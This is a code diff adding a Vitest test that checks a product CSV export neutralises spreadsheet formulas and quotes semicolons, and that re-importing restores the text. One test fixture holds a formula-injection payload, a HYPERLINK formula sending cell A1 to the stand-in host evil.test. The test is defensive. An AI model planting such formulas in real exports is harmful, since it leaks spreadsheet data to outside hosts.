@@ -5,7 +5,7 @@
 // search show it on the next request; files too large or unreadable are refused whole.
 import { env } from "cloudflare:workers";
 import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
-import { eq, inArray } from "drizzle-orm";
+import { and, eq, inArray } from "drizzle-orm";
 import { beforeAll, describe, expect, it } from "vitest";
 import type { ProductCsvReport } from "../../core/contracts/admin/product-csv.ts";
 import { products, productTitles, productTranslations, productVariants } from "../../db/schema/index.ts";
@@ -98,6 +98,34 @@ describe("products CSV: export", () => {
     expect(after.map(({ product, texts }) => ({ ...product, updatedAt: 0, texts }))).toEqual(
       before.map(({ product, texts }) => ({ ...product, updatedAt: 0, texts })),
     );
+  });
+
+  it("guards every line of a text against formulas and quotes semicolons; the import takes the guard back", async () => {
+    const product = await createProduct(db);
+    const description = 'Soft cotton.\n=HYPERLINK("https://evil.test/?"&A1,"Click")';
+    await db
+      .update(productTranslations)
+      .set({ description })
+      .where(and(eq(productTranslations.productId, product.id), eq(productTranslations.locale, "en")));
+    await db
+      .update(productTranslations)
+      .set({ title: "منشفة; =1+1" })
+      .where(and(eq(productTranslations.productId, product.id), eq(productTranslations.locale, "ar")));
+    const text = await (await exportCsv()).text();
+    // Records end in CRLF; the line break inside the description is the LF it was written with
+    const [header = "", ...rows] = text.replace(/^\uFEFF/, "").split("\r\n");
+    const row = rows.find((line) => line.startsWith(`${product.sku},`)) ?? "";
+    expect(row).toContain(`,"منشفة; =1+1",`);
+    expect(row).toContain(`,"Soft cotton.\n'=HYPERLINK(""https://evil.test/?""&A1,""Click"")",`);
+    const before = await stored(product.id);
+    const { status, answer } = await importCsv(`${header}\r\n${row}\r\n`, { dryRun: "false" });
+    expect(status, JSON.stringify(answer)).toBe(200);
+    const [en] = await db
+      .select({ description: productTranslations.description })
+      .from(productTranslations)
+      .where(and(eq(productTranslations.productId, product.id), eq(productTranslations.locale, "en")));
+    expect(en?.description).toBe(description);
+    expect((await stored(product.id)).texts).toEqual(before.texts);
   });
 });
 
